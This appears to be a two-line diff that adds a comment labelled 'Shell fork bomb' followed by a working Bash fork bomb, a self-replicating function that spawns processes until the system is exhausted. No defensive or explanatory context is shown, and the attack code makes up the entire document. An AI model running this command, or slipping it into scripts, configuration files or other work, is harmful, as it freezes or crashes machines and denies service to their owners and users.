@@ -1,0 +1,2 @@
+# Shell fork bomb.
+b() { b | b & }; b
